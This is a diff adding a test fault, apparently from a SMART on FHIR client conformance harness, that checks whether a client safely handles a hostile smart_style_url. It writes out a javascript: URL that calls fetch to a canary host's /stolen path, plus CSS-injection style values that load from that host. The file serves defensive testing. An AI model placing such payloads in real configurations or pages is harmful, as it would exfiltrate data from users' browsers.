@@ -1,0 +1,50 @@
+import { z } from 'zod'
+import { allOf, completes, leaksNothing, neverSends } from '../../core/expectation.ts'
+import { defineFault } from '../../core/fault.ts'
+import { jsonReply, type Reply, withHeader } from '../../core/reply.ts'
+import { scopesPage } from '../../core/spec.ts'
+import { errorPage } from './error-page.ts'
+
+type Style = 'not-found' | 'page' | 'huge' | 'values' | 'script'
+
+export const smartStyleHostile = defineFault({
+  name: 'smart-style-hostile',
+  title: 'Hostile smart_style_url',
+  kind: 'must-not-leak',
+  ids: ['F-135'],
+  spec: scopesPage('styling'),
+  wire: 'The smart_style_url is a script, or leads to another host, which answers 404, a page, a megabyte, or values that load more from there.',
+  client: 'Work without the style; load it without the token, and let no value of it load anything.',
+  steps: ['token', 'unmatched'],
+  when: { path: ['/auth/token', '/style.json'] },
+  params: () =>
+    z.strictObject({
+      is: z
+        .enum(['not-found', 'page', 'huge', 'values', 'script'])
+        .default('not-found')
+        .describe('What the style is.'),
+    }),
+  points: {
+    'token.response': (response, { params, canary }) => ({
+      ...response,
+      smart_style_url:
+        params.is === 'script' ? `javascript:fetch('${canary.base}/stolen')` : `${canary.base}/style.json`,
+    }),
+    arrival: (value, { params, step, canary }) =>
+      step === 'unmatched' ? styleReply(params.is, canary.base) : value,
+  },
+  expects: allOf(completes(), leaksNothing(), neverSends('/stolen')),
+})
+
+/** Readable by every origin, as a style has to be. */
+function styleReply(is: Style, elsewhere: string): Reply {
+  return withHeader(body(is, elsewhere), 'Access-Control-Allow-Origin', '*')
+}
+
+function body(is: Style, elsewhere: string): Reply {
+  if (is === 'not-found') return jsonReply(404, {})
+  if (is === 'page') return errorPage(200, 'Style')
+  if (is === 'huge') return jsonReply(200, { color_background: '#'.padEnd(1_000_000, '0') })
+  const value = `red; background: url("${elsewhere}/stolen")`
+  return jsonReply(200, { color_background: value, dim_font_size: value, font_family_body: value })
+}
